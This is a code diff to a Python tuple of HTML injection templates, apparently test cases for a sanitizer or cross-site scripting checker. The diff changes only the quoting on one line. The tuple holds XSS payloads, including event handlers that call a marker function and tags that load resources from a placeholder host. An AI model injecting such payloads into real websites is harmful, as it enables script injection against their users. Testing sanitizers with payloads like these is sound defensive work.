@@ -38,7 +38,7 @@ _TEMPLATES = (
     "<audio src=x onerror=top.ran({n})>",
     "<marquee onstart=top.ran({n})>x</marquee>",
     "<style>@import '//{host}/{n}';</style>",
-    "<p style=\"background:url(//{host}/{n})\">x</p>",
+    '<p style="background:url(//{host}/{n})">x</p>',
     "<link rel=stylesheet href=//{host}/{n}>",
     "<base href=//{host}/{n}/>",
     "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
